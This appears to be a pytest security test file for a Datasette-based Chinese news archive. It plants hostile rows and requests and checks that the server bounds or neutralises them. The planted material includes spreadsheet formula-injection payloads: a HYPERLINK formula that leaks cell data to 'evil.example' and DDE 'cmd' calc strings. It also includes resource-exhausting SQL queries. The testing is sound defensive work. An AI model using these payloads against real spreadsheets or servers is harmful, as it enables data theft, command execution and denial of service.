"""Safe to publish (issue 13, the server): no request freezes the server, exports and the feed hold.

Every test talks HTTP to a real server started exactly as `make serve` starts it (zhnews.app.serve: gunicorn
workers over the Datasette app, the Makefile's flags; benchmarks.latency.Server), over a database built by
the real build_db.py from sample/ and then EDITED BY HAND the way an attacker's archive, an old build or a
person with sqlite3 could leave it: formulas in titles, characters XML cannot carry, one huge article, and
the sample's rows copied until an export takes a while. docs/security.md lists each threat with its test.
"""

from __future__ import annotations

import csv
import importlib.util
import io
import json
import os
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from types import ModuleType
from urllib.parse import quote
from xml.etree import ElementTree

import httpx
import pytest

from benchmarks import latency
from benchmarks.proctree import _tree, tree_cpu_seconds
from zhnews.app.excel import FormulaGuard, neutralise
from zhnews.search.index import MAX_QUERY_CHARS, MAX_TEXT_CHARS

ROOT = Path(__file__).resolve().parent.parent
SAMPLE = ROOT / "sample"
ATOM = "{http://www.w3.org/2005/Atom}"
COPIES = 150  # the sample's ~34 articles copied this often: ~5,000 rows, a ~30 MB export
HUGE_CHARS = 6_000_000
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


# ------------------------------------------------------------------------------------------- the database

def _edit_by_hand(db: Path) -> dict[str, object]:
    """Attack the built database in place; returns what was planted where."""
    conn = sqlite3.connect(db)
    newest_first = "select id, title from articles order by published desc, id desc limit 8"
    latest = conn.execute(newest_first).fetchall()
    (xml_breaker, breaker_title), (huge, huge_title), *formula_rows = latest
    formula_ids = [article_id for article_id, _ in formula_rows]
    conn.execute("update articles set title = title || ?, lead = lead || ?, body_html = body_html || ? "
                 "where id = ?", ["\ufffe标题", "\x0b导语", "<p>正文\uffff</p>", xml_breaker])
    paragraph = "<p>" + "字" * 999 + "</p>"
    conn.execute("update articles set body_html = ?, body_text = ?, title = ? where id = ?",
                 [paragraph * (HUGE_CHARS // len(paragraph)), ("字" * 999 + "\n\n") * (HUGE_CHARS // 1001),
                  "巨" * 50_000, huge])
    for article_id, formula in zip(formula_ids, FORMULAS, strict=True):
        conn.execute("update articles set title = ?, author = ? where id = ?", [formula, "=1+1", article_id])
    columns = [r[1] for r in conn.execute("pragma table_info(articles)")]
    copied = {"id": "-(id % 1000000000000) - :k * 10000000000000", "url": "url || '#copy-' || :k",
              "search_rowid": "search_rowid + :k * 100000000"}
    select = ", ".join(copied.get(c, c) for c in columns)
    for k in range(1, COPIES + 1):
        conn.execute(f"insert into articles ({', '.join(columns)}) select {select} from articles "
                     "where url not like '%#copy-%' and id != :huge", {"k": k, "huge": huge})
    conn.commit()
    conn.close()
    formulas = dict(zip(formula_ids, FORMULAS, strict=True))
    # the search index keeps the text as built: these queries still find the two articles
    return {"xml_breaker": xml_breaker, "huge": huge, "formulas": formulas,
            "breaker_query": breaker_title[:4], "huge_query": huge_title[:4]}


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, object]]:
    folder = tmp_path_factory.mktemp("hostile")
    db = folder / "news.db"
    command = [sys.executable, str(ROOT / "build_db.py"), str(SAMPLE), "--db", str(db), "--quiet"]
    build = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=600)
    assert build.returncode == 0, build.stderr[-2000:]
    return db, _edit_by_hand(db)


def _serve(db: Path, log: Path, **options: object) -> Iterator[latency.Server]:
    server = latency.Server(ROOT, db, log, **options)  # type: ignore[arg-type]
    try:
        yield server
    finally:
        server.stop()


@pytest.fixture(scope="module")
def server(hostile: tuple[Path, dict[str, object]], tmp_path_factory: pytest.TempPathFactory
           ) -> Iterator[latency.Server]:
    yield from _serve(hostile[0], tmp_path_factory.mktemp("log") / "server.log", workers=2)


@pytest.fixture(scope="module")
def public_server(hostile: tuple[Path, dict[str, object]], tmp_path_factory: pytest.TempPathFactory
                  ) -> Iterator[latency.Server]:
    yield from _serve(hostile[0], tmp_path_factory.mktemp("log") / "public.log", workers=1, public=True)


def get(server: latency.Server, path: str, **kwargs: object) -> httpx.Response:
    return httpx.get(server.base + path, timeout=120, **kwargs)  # type: ignore[arg-type]


def rows(db: Path, sql: str, params: tuple[object, ...] = ()) -> list[tuple[object, ...]]:
    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    try:
        return conn.execute(sql, params).fetchall()
    finally:
        conn.close()


def sql_path(sql: str) -> str:
    return "/news.json?sql=" + quote(sql)


# ------------------------------------------------------------------------------------------- 1. SQL

@pytest.mark.slow
@pytest.mark.parametrize("sql", [
    "select zh_highlight(group_concat(body_text), '中国') from articles",
    "select escape_fts(printf('%.*c', 10000000, '中'))",
    "select zh_fts_query(printf('%.*c', 10000000, '中'))",
    f"select zh_snippet('台湾', printf('%.*c', {MAX_QUERY_CHARS + 1}, 'x'))",
    f"select zh_highlight(printf('%.*c', {MAX_TEXT_CHARS + 1}, 'x'), 'x')",
])
def test_sql_functions_refuse_input_over_their_limits(server: latency.Server, sql: str) -> None:
    response = get(server, sql_path(sql))
    assert response.status_code == 400
    assert "user-defined function raised exception" in response.json()["error"]


@pytest.mark.slow
def test_a_snippet_reads_only_the_head_of_a_huge_text(server: latency.Server) -> None:
    sql = "select zh_snippet(printf('%.*c', 20000000, 'x') || '台湾', '台湾') as s"
    snippet = get(server, "/news.json?_shape=array&sql=" + quote(sql)).json()[0]["s"]
    assert snippet.startswith("x") and "<mark>" not in snippet  # the hit lies past the head it reads


@pytest.mark.slow
@pytest.mark.parametrize("sql", [
    "select zeroblob(100000000)", "select length(randomblob(100000000))",
    "select length(replace(printf('%.*c', 1000, 'x'), 'x', printf('%.*c', 100000, 'y')))"])
def test_no_statement_holds_a_value_over_64_mb(server: latency.Server, sql: str) -> None:
    response = get(server, sql_path(sql))
    assert response.status_code == 400
    assert "string or blob too big" in response.json()["error"]


@pytest.mark.slow
def test_readers_are_served_while_hostile_queries_run(server: latency.Server, hostile: tuple[Path, dict]
                                                      ) -> None:
    """The headline of issue 13: each of these froze every reader for 8-24 s. The bound asserted is the
    server's own: a refused or bounded query answers within the SQL time limit, and meanwhile the article
    page and a static file answer too (not a speed target: unbounded, these took 20 s)."""
    hostile_queries = [
        sql_path("select zh_snippet(printf('%.*c', 20000000, 'x'), 'x')"),
        sql_path("select zh_highlight(group_concat(body_text), '中国') from articles"),
        sql_path("select escape_fts(printf('%.*c', 10000000, '中'))"),
        "/news/articles.json?_where=" + quote("zh_snippet(body_text, title) is not null"),
    ]
    article = rows(hostile[0], "select id from articles order by id limit 1")[0][0]
    answered: dict[str, tuple[int, float]] = {}

    def fetch(path: str) -> None:
        started = time.perf_counter()
        answered[path] = (get(server, path).status_code, time.perf_counter() - started)

    threads = [threading.Thread(target=fetch, args=(path,)) for path in hostile_queries]
    for thread in threads:
        thread.start()
    for path in (f"/news/articles/{article}", "/static/zhnews.css", "/"):
        fetch(path)
        assert answered[path][0] == 200, path
    for thread in threads:
        thread.join()
    assert all(seconds < latency_limit_seconds() + 5 for _, seconds in answered.values()), answered


def latency_limit_seconds() -> float:
    flags = latency.serve_flags(ROOT)
    return int(flags[flags.index("sql_time_limit_ms") + 1]) / 1000


@pytest.mark.slow
def test_public_configuration_refuses_arbitrary_sql_and_keeps_every_page(public_server: latency.Server
                                                                         ) -> None:
    for path in (sql_path("select 1"), "/news/articles.json?_where=" + quote("id > 0")):
        assert get(public_server, path).status_code == 403, path
    for path in (f"/news/search.json?q={quote('台湾')}&_shape=array", "/news/feed.atom",
                 f"/news/search/all.csv?q={quote('台湾')}", f"/news/search/feed.atom?q={quote('台湾')}",
                 f"/news/articles.json?_search={quote('台湾')}", "/news/articles.csv?_stream=on&_col=title",
                 "/news/articles.csvbom?_col=title", "/news/outlets", "/"):
        assert get(public_server, path).status_code == 200, path
    assert not get(public_server, "/news.json").json()["allow_execute_sql"]


# ------------------------------------------------------------------------------------------- 2, 3. exports

@pytest.mark.slow
def test_a_streamed_csv_sends_every_row(server: latency.Server, hostile: tuple[Path, dict]) -> None:
    """Sorted by id: Datasette 0.65 pages a sort with ties wrongly at its first page boundary, and the copies
    here share their `published` (docs/security.md, known limits)."""
    expected = {str(r[0]) for r in rows(hostile[0], "select id from articles")}
    path = "/news/articles.csv?_stream=on&_col=title&_sort=id"
    with httpx.stream("GET", server.base + path, timeout=120) as response:
        assert "content-length" not in response.headers  # streamed, not buffered
        text = response.read().decode()
    assert {r["id"] for r in csv.DictReader(io.StringIO(text))} == expected


@pytest.mark.slow
def test_excel_export_makes_formulas_text_and_csv_and_json_stay_exact(
        server: latency.Server, hostile: tuple[Path, dict]) -> None:
    formulas: dict[int, str] = hostile[1]["formulas"]  # type: ignore[assignment]
    ids = "id__in=" + ",".join(map(str, formulas))
    with httpx.stream("GET", f"{server.base}/news/articles.csvbom?_col=title&_col=author&{ids}",
                      timeout=120) as response:
        assert response.headers["content-type"].startswith("text/csv")
        assert "attachment" in response.headers["content-disposition"]
        assert "content-length" not in response.headers
        body = response.read()
    assert body.startswith(b"\xef\xbb\xbf")
    excel = {int(r["id"]): r for r in csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline=""))}
    plain = {int(r["id"]): r for r in csv.DictReader(io.StringIO(
        get(server, f"/news/articles.csv?_col=title&_col=author&{ids}").text, newline=""))}
    exact = {r["id"]: r for r in get(server, f"/news/articles.json?_shape=array&_col=title&{ids}").json()}
    for article_id, formula in formulas.items():
        assert excel[article_id]["title"] == "'" + formula
        assert excel[article_id]["author"] == "'=1+1"
        assert plain[article_id]["title"] == formula
        assert exact[article_id]["title"] == formula


@pytest.mark.slow
def test_an_abandoned_export_stops(server: latency.Server) -> None:
    """A reader who leaves after the first bytes costs nothing more: before, the server went on reading the
    whole table (two cores for ~19 min at 60k articles). Measured as the workers' CPU time after the close."""
    for path in ("/news/articles.csvbom", "/news/articles.csv?_stream=on"):
        with socket.create_connection(("127.0.0.1", server.port)) as sock:
            sock.sendall(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode())
            assert sock.recv(65536).startswith(b"HTTP/1.1 200")
            before = tree_cpu_seconds(server.proc.pid)
        time.sleep(3)
        spent = tree_cpu_seconds(server.proc.pid) - before
        whole = export_cpu_seconds(server, path)
        assert spent < whole / 3, (path, spent, whole)


def export_cpu_seconds(server: latency.Server, path: str) -> float:
    before = tree_cpu_seconds(server.proc.pid)
    get(server, path)
    return tree_cpu_seconds(server.proc.pid) - before


# ------------------------------------------------------------------------------------------- 4, 5. feed, huge

@pytest.mark.slow
def test_the_feeds_drop_characters_xml_cannot_carry(server: latency.Server, hostile: tuple[Path, dict]
                                                    ) -> None:
    searched = get(server, f"/news/search/feed.atom?q={quote(hostile[1]['breaker_query'])}")
    assert searched.status_code == 200
    entries = ElementTree.fromstring(searched.content).iter(f"{ATOM}entry")
    titles = [e.find(f"{ATOM}title").text for e in entries]
    assert any(t.endswith("标题") for t in titles) and not any("\ufffe" in t for t in titles)
    response = get(server, "/news/feed.atom")
    assert response.status_code == 200
    feed = ElementTree.fromstring(response.content)
    entries = feed.findall(f"{ATOM}entry")
    assert len(entries) == 50
    broken = [e for e in entries if e.find(f"{ATOM}title").text.endswith("标题")]
    assert broken and all("\ufffe" not in e.find(f"{ATOM}title").text for e in broken)
    content = broken[0].find(f"{ATOM}content").text
    assert "导语" in content and "正文" in content


@pytest.mark.slow
def test_one_huge_article_costs_every_page_a_bounded_amount(server: latency.Server, hostile: tuple[Path, dict]
                                                            ) -> None:
    huge = hostile[1]["huge"]
    feed = get(server, "/news/feed.atom")
    assert len(feed.content) < 2_000_000  # 50 bounded entries; this one alone was 6 MB of text
    page = get(server, f"/news/articles/{huge}")
    assert page.status_code == 200 and len(page.content) < 1_000_000
    assert "全文过长" in page.text
    searched = get(server, f"/news/search?q={quote(hostile[1]['huge_query'])}")
    assert searched.status_code == 200 and len(searched.content) < 600_000
    assert f"/news/articles/{huge}" in searched.text  # listed, with a snippet of a bounded head
    cards = get(server, "/news/articles")
    assert len(cards.content) < 600_000


# ------------------------------------------------------------------------------------------- 7. parameters

@pytest.mark.slow
@pytest.mark.parametrize("query", [
    "_sort=nosuch", "_sort_desc=nosuch", "_sort_desc=title%00", "_facet=title%00", "_where=1%00",
    "_sort=title&_sort_desc=title", "_through=x", "_through=%7B%7D", "_timelimit=x", "_facet_array=x%00",
    "tit%00le=x", "_search=" + "a" * (MAX_QUERY_CHARS + 1)])
def test_a_malformed_table_parameter_is_a_400_that_says_what_is_wrong(server: latency.Server, query: str
                                                                       ) -> None:
    for fmt in ("", ".json", ".csv", ".csvbom"):
        response = get(server, f"/news/articles{fmt}?{query}")
        assert response.status_code == 400, (fmt, query, response.text[:300])
    message = get(server, f"/news/articles.json?{query}").json()["error"]
    assert message and "Traceback" not in message


@pytest.mark.slow
def test_an_over_long_search_query_is_a_400_on_the_search_pages(server: latency.Server) -> None:
    long = quote("台" * (MAX_QUERY_CHARS + 1))
    for path in (f"/news/search?q={long}", f"/news/search.json?q={long}"):
        response = get(server, path)
        assert response.status_code == 400 and "2,000" in response.text
    assert get(server, f"/news/search.json?q={quote('台' * MAX_QUERY_CHARS)}").status_code == 200


# ------------------------------------------------------------------------------------------- 6. serving

@pytest.mark.slow
def test_make_serve_runs_the_requested_number_of_workers(tmp_path: Path) -> None:
    port = latency.free_port()
    make = subprocess.Popen(
        ["make", "-s", "serve", f"DB={tmp_path / 'news.db'}", f"PORT={port}", "WORKERS=3"],
        cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        deadline = time.monotonic() + 240
        while time.monotonic() < deadline:
            try:
                if httpx.get(f"http://127.0.0.1:{port}/news/articles.json", timeout=5).status_code == 200:
                    break
            except httpx.HTTPError:
                time.sleep(0.5)
        else:
            pytest.fail("make serve did not answer")
        # The first answer may come while the last worker still boots: wait for it (bounded).
        booted = time.monotonic() + 60
        while True:
            python = [pid for pid in _tree(make.pid) if _command(pid)[1:3] == ["-m", "zhnews.app.serve"]]
            if len(python) >= 4 or time.monotonic() > booted:
                break
            time.sleep(0.5)
        assert len(python) == 4  # the gunicorn master and its three workers
        settings = json.loads(httpx.get(f"http://127.0.0.1:{port}/-/settings.json").text)
        assert settings["sql_time_limit_ms"] == int(latency_limit_seconds() * 1000)
    finally:
        os.killpg(make.pid, signal.SIGTERM)
        make.wait(timeout=30)


def plugin(name: str) -> ModuleType:
    """A module of plugins/, loaded from its file as Datasette's --plugins-dir loads it."""
    spec = importlib.util.spec_from_file_location(name, ROOT / "plugins" / f"{name}.py")
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def _command(pid: int) -> list[str]:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().decode().split("\0")
    except OSError:
        return []


# ------------------------------------------------------------------------------------------- the rewriter

def test_the_excel_rewriter_gives_the_same_csv_however_the_stream_is_cut() -> None:
    """Datasette happens to send one record per chunk; the rewriter must not depend on it (a cell may hold
    line breaks and quotes)."""
    rows_in = [["id", "title"], ["1", '=HYPERLINK("x")'], ["2", "两行\r\n第二行 \"引号\""], ["3", "-5"],
               ["4", "@x"], ["5", "+1.5e3"], ["6", "\t=1"]]
    out = io.StringIO()
    csv.writer(out).writerows(rows_in)
    data = out.getvalue().encode()
    expected = [[neutralise(cell) for cell in row] for row in rows_in]
    assert expected[1][1] == "'" + rows_in[1][1] and expected[3][1] == "-5" and expected[5][1] == "+1.5e3"
    for size in (1, 2, 3, 7, len(data)):
        guard = FormulaGuard()
        chunks = [data[i:i + size] for i in range(0, len(data), size)]
        rewritten = b"".join(guard.feed(c, final=i == len(chunks) - 1) for i, c in enumerate(chunks))
        assert list(csv.reader(io.StringIO(rewritten.decode(), newline=""))) == expected, size


def test_only_article_pages_home_and_static_files_skip_the_lanes() -> None:
    lane_of = plugin("zhnews_lanes").lane_of
    for light in ("/", "/news/articles/123", "/news/articles/123.json", "/-/static/app.css",
                  "/static/zhnews.css"):
        assert lane_of(light) is None, light
    for heavy in ("/news/articles", "/news/articles.json", "/news", "/news/search", "/news/search.json",
                  "/news/search/feed.atom", "/news/feed.atom", "/-/search", "/search"):
        assert lane_of(heavy) == "heavy", heavy
    for export in ("/news/articles.csv", "/news/articles.csvbom", "/news/search/all.csv",
                   "/news/search/all.csvbom", "/news/search/all.json", "/news/search/timeline.csv"):
        assert lane_of(export) == "export", export
